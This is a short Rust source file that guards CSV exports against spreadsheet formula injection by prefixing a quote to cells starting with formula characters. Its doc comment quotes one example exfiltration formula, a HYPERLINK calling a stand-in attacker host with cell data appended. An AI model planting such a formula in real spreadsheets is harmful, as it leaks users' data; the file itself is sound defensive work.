//! Cells for spreadsheets: a text a spreadsheet would run as a formula is written as text.
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and some also after a tab
//! or carriage return) as a formula: a note `=HYPERLINK("http://evil.example/?"&A1,"x")` would
//! send the sheet's data away when clicked. As OWASP recommends, such a cell gets a leading
//! `'`, which spreadsheets show as text and hide. Used by every CSV gloss writes (notes,
//! overview grid, comparisons).

/// What makes a spreadsheet take a cell for a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell as a spreadsheet will show it, never run it.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}
